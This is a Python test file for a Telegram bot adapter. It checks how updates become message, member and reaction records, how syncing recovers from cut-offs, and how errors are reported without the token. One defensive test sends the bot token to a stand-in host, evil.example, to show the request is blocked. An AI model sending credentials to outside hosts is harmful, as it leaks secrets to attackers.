"""What reaches a Telegram bot becomes communities, members, messages and posts, and is never forgotten unwritten."""

from __future__ import annotations

from contextlib import closing
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from asking import Asking, of
from kolbench.adapters.protocol import Page
from kolbench.adapters.registry import faults
from kolbench.adapters.telegram.adapter import Telegram
from kolbench.domain.errors import Denied, Gone, SourceError, Transient, UsageError
from kolbench.domain.records import (
    AccountRecord,
    CommunityRecord,
    InteractionRecord,
    MembershipRecord,
    MessageRecord,
    PostRecord,
    SnapshotRecord,
)
from kolbench.store.connect import Store

TOKEN = "123456789:AAF-" + "x" * 31
NOON = datetime(2026, 5, 4, 12, tzinfo=UTC)
GROUP = {"id": -10042, "type": "supergroup", "title": "Tea 茶", "username": "tea_group"}
NEWS = {"id": -10043, "type": "channel", "title": "News", "username": "tea_news"}


def user(number: int, first: str = "", **more: Any) -> dict[str, Any]:
    return {"id": number, "is_bot": False, "first_name": first or f"User{number}", **more}


ANN, BOB = user(1, "Ann", last_name="A", username="ann_a"), user(2, "Bob")


def message(number: int, who: Any = ANN, text: str | None = "words", chat: Any = GROUP, **more: Any) -> dict[str, Any]:
    told = {"message_id": number, "date": int(NOON.timestamp()) + 60 * number, "chat": chat}
    return {**told, **({"from": who} if who else {}), **({} if text is None else {"text": text}), **more}


@dataclass
class Bot:
    """Telegram in memory: an update is forgotten when a later one is asked for."""

    updates: list[dict[str, Any]] = field(default_factory=list)
    answers: dict[str, Any] = field(default_factory=dict)
    statuses: dict[str, int] = field(default_factory=dict)
    asked: list[httpx.Request] = field(default_factory=list)

    def say(self, *messages: dict[str, Any], kind: str = "message", first: int = 900) -> Bot:
        number = max((update["update_id"] for update in self.updates), default=first - 1)
        self.updates += [{"update_id": number + n, kind: told} for n, told in enumerate(messages, 1)]
        return self

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.asked.append(request)
        assert request.url.path.startswith(f"/bot{TOKEN}/")
        method = request.url.path.rpartition("/")[2]
        if method in self.statuses:
            return httpx.Response(self.statuses[method], json={"ok": False, "description": "no"})
        if method == "getUpdates":
            offset = int(request.url.params.get("offset", 0))
            self.updates = [update for update in self.updates if update["update_id"] >= offset]
            return httpx.Response(200, json={"ok": True, "result": self.updates[: int(request.url.params["limit"])]})
        return httpx.Response(200, json={"ok": True, "result": self.answers[method]})


def asking(bot: Bot, **settings: str) -> Asking:
    return Asking(Telegram(), bot, {"token": TOKEN, **settings})


def acts(records: Any) -> set[tuple[str, str, str]]:
    return {(act.actor_uid, act.kind, act.object_uid) for act in of(records, InteractionRecord)}


def heard(*messages: dict[str, Any], kind: str = "message") -> list[Any]:
    return asking(Bot().say(*messages, kind=kind)).records("messages")


def uids(pages: list[Page]) -> list[str]:
    return [one.uid for page in pages for one in of(page.records, MessageRecord)]


def test_it_declares_itself_soundly() -> None:
    assert faults(Telegram()) == []


# What is said -------------------------------------------------------------------------------------------------


def test_a_group_becomes_a_community_in_which_people_talk() -> None:
    first = message(1, ANN, "hi @cy_c")
    records = heard(first, message(2, BOB, "thanks!", reply_to_message=first))
    assert of(records, CommunityRecord) == [CommunityRecord(uid="-10042", name="Tea 茶", kind="chat")]
    assert [(a.uid, a.handle, a.name) for a in of(records, AccountRecord)] == [
        ("1", "ann_a", "Ann A"),
        ("2", None, "Bob"),
    ]
    one, two = of(records, MessageRecord)
    assert (one.uid, one.community_uid, one.account_uid, one.text) == ("-10042:1", "-10042", "1", "hi @cy_c")
    assert one.sent_at == NOON + timedelta(minutes=1)
    assert two.reply_to_uid == "-10042:1"
    assert acts(records) == {("1", "mention", "handle:cy_c"), ("2", "reply", "1"), ("2", "thank", "1")}


def test_people_without_handles_are_named_by_entities_counted_in_utf_16() -> None:
    entity = {"type": "text_mention", "offset": 3, "length": 5, "user": user(3, "Cy C.")}
    records = heard(message(1, ANN, "😀 Cy C. thanks", entities=[{"type": "bold", "offset": 0, "length": 2}, entity]))
    assert of(records, MessageRecord)[0].text == "😀 @Cy C. thanks"
    assert acts(records) == {("1", "mention", "3"), ("1", "thank", "3")}


def test_captions_and_media_are_said_and_what_telegram_says_itself_is_not() -> None:
    photo = message(1, ANN, None, photo=[{"file_id": "x"}], caption="look @bob_b")
    own = [message(3, ANN, None, new_chat_title="Tee"), message(4, ANN, None, pinned_message=message(1))]
    records = heard(photo, message(2, ANN, None, sticker={"file_id": "y"}), *own)
    assert [(one.uid, one.text) for one in of(records, MessageRecord)] == [
        ("-10042:1", "look @bob_b"),
        ("-10042:2", ""),
    ]


def test_administrators_may_speak_as_the_group_and_channels_in_it() -> None:
    anonymous = message(1, user(1087968824, "Group", is_bot=True, username="GroupAnonymousBot"), "x", sender_chat=GROUP)
    forwarded = message(2, user(777000, "Telegram"), "news", sender_chat=NEWS, is_automatic_forward=True)
    records = heard(anonymous, forwarded)
    assert [one.account_uid for one in of(records, MessageRecord)] == ["-10042", "-10043"]
    people = {a.uid: (a.name, a.is_staff, a.is_bot) for a in of(records, AccountRecord)}
    assert people == {"-10042": ("Tea 茶", True, None), "-10043": ("News", None, None)}


def test_bots_are_flagged_and_address_nobody() -> None:
    records = heard(message(1, user(5, "Robot", is_bot=True, username="tea_bot"), "@ann_a hi"))
    assert of(records, AccountRecord)[0].is_bot is True
    assert acts(records) == set()


def test_a_message_in_a_topic_answers_only_whom_it_replies_to() -> None:
    opened = message(1, BOB, None, forum_topic_created={"name": "Brewing"})
    records = heard(message(2, ANN, "hi", reply_to_message=opened, is_topic_message=True))
    assert acts(records) == set()
    assert of(records, MessageRecord)[0].reply_to_uid is None


def test_an_edit_is_the_same_message() -> None:
    assert uids(asking(Bot().say(message(1), message(1, text="edited"), kind="edited_message")).pages("messages")) == [
        "-10042:1"
    ]


def test_a_channels_posts_and_their_reactions() -> None:
    bot = Bot().say(message(5, None, "news", NEWS), kind="channel_post")
    counted = {
        "chat": NEWS,
        "message_id": 5,
        "date": int(NOON.timestamp()),
        "reactions": [{"total_count": 3}, {"total_count": 4}],
    }
    records = asking(bot.say(counted, kind="message_reaction_count")).records("messages")
    (post,) = of(records, PostRecord)
    assert (post.uid, post.account_uid, post.text, post.url) == (
        "-10043:5",
        "-10043",
        "news",
        "https://t.me/tea_news/5",
    )
    (counts,) = of(records, SnapshotRecord)
    assert (counts.post_uid, counts.metrics, counts.observed_at) == ("-10043:5", {"likes": 7}, NOON)
    assert of(records, AccountRecord)[0].category == "channel"


# Who comes, leaves and reacts ---------------------------------------------------------------------------------


def test_who_is_brought_who_comes_and_who_leaves() -> None:
    records = heard(
        message(1, ANN, None, new_chat_members=[BOB, user(5, is_bot=True)]),
        message(2, user(6), None, new_chat_members=[user(6)]),
        message(3, BOB, None, left_chat_member=BOB),
    )
    at = [NOON + timedelta(minutes=n) for n in range(4)]
    moves = [(one.account_uid, one.joined_at, one.left_at) for one in of(records, MembershipRecord)]
    assert moves == [("2", at[1], None), ("5", at[1], None), ("6", at[2], None), ("2", None, at[3])]
    assert acts(records) == {("1", "invite", "2"), ("1", "invite", "5")}
    assert {a.uid: a.is_bot for a in of(records, AccountRecord)}["5"] is True
    assert of(records, MessageRecord) == []


@pytest.mark.parametrize(
    ("before", "after", "more", "expected"),
    [
        ("left", "member", {}, (None, True, False)),
        ("member", "administrator", {}, ("administrator", False, False)),
        ("member", "left", {}, (None, False, True)),
        ("administrator", "kicked", {}, (None, False, True)),
        ("restricted", "member", {}, (None, True, False)),
        ("member", "restricted", {"is_member": True}, (None, False, False)),
        ("left", "creator", {}, ("owner", True, False)),
    ],
)
def test_changes_of_members(before: str, after: str, more: Any, expected: Any) -> None:
    change = {
        "chat": GROUP,
        "from": ANN,
        "date": int(NOON.timestamp()),
        "old_chat_member": {"user": BOB, "status": before},
        "new_chat_member": {"user": BOB, "status": after, **more},
        "invite_link": {"creator": ANN, "invite_link": "x"},
    }
    records = heard(change, kind="chat_member")
    (one,) = of(records, MembershipRecord)
    assert (one.role, one.joined_at == NOON, one.left_at == NOON) == expected
    assert acts(records) == ({("1", "invite", "2")} if expected[1] else set())
    staff = {a.uid: a.is_staff for a in of(records, AccountRecord)}
    assert staff["2"] is (True if expected[0] else None)


def test_a_reaction_pleases_whoever_wrote_the_message_also_in_a_later_sync() -> None:
    bot = Bot().say(message(1, ANN), message(2, BOB))
    asked = asking(bot)
    cursor = asked.pages("messages")[-1].cursor
    told = {"chat": GROUP, "date": int(NOON.timestamp()), "old_reaction": []}
    liked = [{"type": "emoji", "emoji": "👍"}]
    bot.say(
        {**told, "message_id": 1, "user": BOB, "new_reaction": liked},
        {**told, "message_id": 2, "user": BOB, "new_reaction": liked},
        {**told, "message_id": 1, "user": user(3), "new_reaction": []},
        {**told, "message_id": 9, "user": user(3), "new_reaction": liked},
        {**told, "message_id": 1, "actor_chat": NEWS, "new_reaction": liked},
        kind="message_reaction",
        first=902,
    )
    assert acts([one for page in asked.pages("messages", "", cursor) for one in page.records]) == {
        ("2", "reaction", "1")
    }


def test_the_operator_is_told_when_the_bot_was_removed() -> None:
    change = {"chat": GROUP, "from": ANN, "date": 1, "old_chat_member": {"user": user(9), "status": "member"}}
    asked = asking(
        Bot().say({**change, "new_chat_member": {"user": user(9), "status": "kicked"}}, kind="my_chat_member")
    )
    asked.pages("messages")
    assert asked.warned == ["the bot is not in Tea 茶 any more"]


# Nothing is lost ----------------------------------------------------------------------------------------------


def test_an_update_is_forgotten_only_when_its_page_is_held() -> None:
    bot = Bot().say(*(message(n, user(n % 9 + 1)) for n in range(250)))
    asked = asking(bot)
    with asked.pull("messages").http as http:  # type: ignore[union-attr]
        assert http
        pages = asked.adapter.pull(asked.pull("messages"))
        first = next(pages)
        assert first.hold
        assert len(bot.updates) == 250
        next(pages)
        assert len(bot.updates) == 150
    assert bot.asked[0].url.params.get("offset") is None
    assert "message_reaction" in bot.asked[0].url.params["allowed_updates"]


def test_a_sync_that_is_cut_off_loses_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KOLBENCH_TELEGRAM_TOKEN", TOKEN)
    bot = Bot().say(*(message(n, user(n % 9 + 1)) for n in range(250)))
    asked = asking(bot)
    with closing(Store.open(tmp_path / "k.db")) as store:

        def count() -> int:
            return int(store.reader().execute("SELECT count(*) FROM message").fetchone()[0])

        assert asked.sync(store, dry_run=True).state == "done"
        assert (len(bot.updates), count()) == (250, 0)
        whole, limit = bot.__call__, len(bot.asked) + 2

        def breaks(request: httpx.Request) -> httpx.Response:
            return whole(request) if len(bot.asked) < limit else httpx.Response(501)

        asked.server = breaks
        assert asked.sync(store).state == "failed"
        assert 0 < count() < 250
        asked.server = bot
        assert asked.sync(store).state == "done"
        assert (len(bot.updates), count()) == (0, 250)
        assert asked.sync(store).counts.read == 0


def test_every_page_leads_on_behind_itself() -> None:
    bot = Bot().say(*(message(n, user(n % 9 + 1)) for n in range(250)))
    kept = list(bot.updates)
    asked = asking(bot)
    pages = asked.pages("messages")
    assert uids(pages) == [f"-10042:{n}" for n in range(250)]
    for done, page in enumerate(pages, 1):
        bot.updates = list(kept)
        assert uids(asked.pages("messages", "", page.cursor)) == uids(pages[done:])


def test_after_a_week_of_silence_any_number_is_news(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KOLBENCH_NOW", "2026-05-04T12:00:00Z")
    bot = Bot().say(message(1), first=5_000)
    asked = asking(bot)
    cursor = asked.pages("messages")[-1].cursor
    monkeypatch.setenv("KOLBENCH_NOW", "2026-05-12T12:00:00Z")
    bot.say(message(2), first=77)
    assert uids(asked.pages("messages", "", cursor)) == ["-10042:2"]


def test_a_damaged_update_is_rejected_alone_and_passed_by() -> None:
    bot = Bot().say(message(1), {**message(2), "date": "soon"}, {**message(3), "date": 10**18}, message(4))
    asked = asking(bot)
    assert uids(asked.pages("messages")) == ["-10042:1", "-10042:4"]
    assert [row.column for row in asked.rejected] == ["message.date", "message.date"]


@pytest.mark.parametrize("kind", ["message_reaction", "message_reaction_count", "chat_member", "channel_post"])
def test_a_date_beyond_the_calendar_is_rejected_alone_in_whatever_it_stands(kind: str) -> None:
    member = {"user": BOB, "status": "member"}
    told = {**message(2, chat=NEWS), "reactions": [], "old_chat_member": member, "new_chat_member": member}
    bot = Bot().say({**told, "date": 10**18}, kind=kind).say(message(3))
    asked = asking(bot)
    assert uids(asked.pages("messages")) == ["-10042:3"]
    assert [row.column for row in asked.rejected] == [f"{kind}.date"]


def test_a_server_that_never_forgets_comes_to_an_end() -> None:
    answer = {"ok": True, "result": Bot().say(message(1)).updates}
    asked = Asking(Telegram(), lambda request: httpx.Response(200, json=answer), {"token": TOKEN})
    assert len(asked.pages("messages")) == 1


@pytest.mark.parametrize("cursor", ["", "{", "[]", '{"offset": "x"}', "null", "\x00"])
def test_a_cursor_it_cannot_read_starts_over(cursor: str) -> None:
    assert uids(asking(Bot().say(message(1))).pages("messages", "", cursor)) == ["-10042:1"]


# Chats that are looked up -------------------------------------------------------------------------------------


def test_chats_are_named_by_id_or_name() -> None:
    asked = asking(Bot(), chats="@tea_news tea_group, -10042")
    assert asked.targets("members") == ["@tea_news", "@tea_group", "-10042"]
    assert asked.targets("messages") == [""]
    with pytest.raises(UsageError, match="neither an id"):
        asking(Bot(), chats="https://t.me/x").targets("members")


def test_a_channel_is_looked_up_with_its_followers() -> None:
    bot = Bot(answers={"getChat": {**NEWS, "description": "all about tea"}, "getChatMemberCount": 1234})
    (record,) = asking(bot).records("members", "@tea_news")
    assert record == AccountRecord(
        uid="-10043",
        handle="tea_news",
        name="News",
        bio="all about tea",
        url="https://t.me/tea_news",
        category="channel",
        metrics={"followers": 1234},
    )


def test_a_group_is_looked_up_with_those_who_run_it() -> None:
    team = [{"user": ANN, "status": "creator"}, {"user": user(5, is_bot=True), "status": "administrator"}]
    records = asking(Bot(answers={"getChat": GROUP, "getChatAdministrators": team})).records("members", "-10042")
    assert of(records, CommunityRecord)[0].url == "https://t.me/tea_group"
    assert {(one.account_uid, one.role) for one in of(records, MembershipRecord)} == {
        ("1", "owner"),
        ("5", "administrator"),
    }
    assert {(a.uid, a.is_staff, a.is_bot) for a in of(records, AccountRecord)} == {("1", True, None), ("5", True, True)}


# Failures -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("status", "error"), [(400, Gone), (403, Denied)])
def test_a_chat_that_is_closed_or_unknown_is_a_state(status: int, error: type[SourceError]) -> None:
    with pytest.raises(error):
        asking(Bot(statuses={"getChat": status})).pages("members", "-10042")


@pytest.mark.parametrize(("status", "words"), [(401, "401"), (404, "check the token"), (409, "somebody else")])
def test_what_is_wrong_with_a_bot_is_told_without_its_token(status: int, words: str) -> None:
    asked = asking(Bot(statuses={"getUpdates": status, "getMe": status}))
    for ask in (lambda: asked.pages("messages"), asked.test):
        with pytest.raises(SourceError, match=words) as caught:
            ask()
        assert not isinstance(caught.value, Gone | Denied)
        assert TOKEN not in str(caught.value)


def test_the_token_in_the_address_is_hidden_and_kept_to_its_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("KOLBENCH_TELEGRAM_TOKEN", TOKEN)
    asked = Asking(Telegram(), lambda request: httpx.Response(200, text="<html>"), {"token": TOKEN})
    with pytest.raises(Transient):
        asked.pages("messages")
    with closing(Store.open(tmp_path / "k.db")) as store:
        (outcome,) = asked.sync(store).sources
        assert TOKEN not in (outcome.error or "")
        assert "not JSON" in (outcome.error or "")
        pull = asked.pull("messages")
        assert pull.http
        with pull.http as http:
            http.get(f"https://api.telegram.org/bot{TOKEN}/getMe")
            with pytest.raises(SourceError, match="not sent elsewhere") as caught:
                http.get(f"https://evil.example/bot{TOKEN}/getMe")
    assert TOKEN not in str(caught.value)


@pytest.mark.parametrize(
    ("sees", "hook", "oks"), [(True, "", [True, True]), (False, "https://x", [True, False, False])]
)
def test_the_credentials_are_described_in_words(sees: bool, hook: str, oks: list[bool]) -> None:
    me = {"id": 9, "is_bot": True, "first_name": "Tea", "username": "tea_bot", "can_read_all_group_messages": sees}
    findings = asking(Bot(answers={"getMe": me, "getWebhookInfo": {"url": hook}})).test()
    assert [finding.ok for finding in findings] == oks
    assert findings[0].text == "The token belongs to tea_bot."


def test_a_bot_that_runs_a_chat_sees_what_is_said_there() -> None:
    me = {"id": 9, "is_bot": True, "first_name": "Tea", "username": "tea_bot", "can_read_all_group_messages": False}
    bot = Bot(answers={"getMe": me, "getWebhookInfo": {"url": ""}})
    bot.answers["getChatMember"] = {"user": user(9), "status": "administrator"}
    findings = asking(bot, chats="-10042").test()
    assert [(finding.ok, finding.text) for finding in findings][1:] == [(True, "It is an administrator of -10042.")]
    bot.statuses["getChatMember"] = 400
    assert [finding.ok for finding in asking(bot, chats="-10042").test()] == [True, False]
